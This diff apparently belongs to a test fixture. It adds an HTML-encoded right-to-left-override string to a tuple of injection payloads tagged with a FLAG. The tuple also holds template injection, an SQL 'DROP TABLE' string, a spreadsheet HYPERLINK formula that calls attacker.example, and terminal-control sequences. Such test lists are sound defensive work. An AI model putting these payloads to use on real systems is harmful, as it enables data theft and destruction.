@@ -27,6 +27,7 @@ QUIET: Final = (
     f"{{{{ {FLAG}.__class__ }}}}{{% raise %}}",
     f"'; DROP TABLE students; -- {FLAG}",
     f'=HYPERLINK("https://attacker.example/{FLAG}")',
+    f"&#x202e;&#8238;{FLAG}",
     f"\u202e{FLAG}\u2066\u200f\x1b[2J\x07\x00",
 )
 """These wait for a click, ask elsewhere for something, or are for another interpreter."""
